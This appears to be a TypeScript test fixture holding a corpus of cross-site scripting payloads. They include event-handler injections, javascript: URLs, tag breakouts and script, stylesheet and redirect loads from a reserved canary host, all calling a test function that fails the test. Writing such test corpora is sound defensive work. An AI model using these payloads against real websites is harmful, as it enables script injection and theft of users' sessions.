/**
 * Requests to this host would show that a script ran or something was fetched. The name is reserved, so it
 * belongs to nobody.
 */
export const CANARY_HOST = 'canary.invalid';

/** The function that each of them calls if it runs: the test's pages define it, and it fails the test. */
const RUN = 'scriptRan()';

/** Ways to run a script in a page that misinterprets a text, the shortest first. */
export const CORPUS: readonly string[] = [
  `javascript:${RUN}`,
  `{{${RUN}}}\${${RUN}}`,
  `<svg onload=${RUN}>`,
  `<script>${RUN}</script>`,
  `" onfocus=${RUN} autofocus x="`,
  `' onmouseover='${RUN}' x='`,
  `<img src=x onerror=${RUN}>`,
  `[link](javascript:${RUN})`,
  `<a href="javascript:${RUN}">a</a>`,
  `<base href=//${CANARY_HOST}/>`,
  `<details open ontoggle=${RUN}>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `</textarea><svg onload=${RUN}>`,
  `</title><script>${RUN}</script>`,
  `<script src=//${CANARY_HOST}/x.js></script>`,
  `<iframe srcdoc="<svg onload=${RUN}>">`,
  `<link rel=stylesheet href=//${CANARY_HOST}/x.css>`,
  `<meta http-equiv=refresh content="0;url=//${CANARY_HOST}">`,
  `<style>@import '//${CANARY_HOST}/x.css'</style>`,
  `<math><mi xlink:href="data:text/html,<script>${RUN}</script>">`,
];

/** The whole corpus if it fits, else one entry that fits: a different one for each `turn`. */
export function scriptFor(room: number, turn: number): string {
  const all = CORPUS.join(' ');
  if (all.length <= room) return all;
  const fitting = CORPUS.filter(({ length }) => length <= room);
  return fitting[turn % fitting.length] ?? '';
}
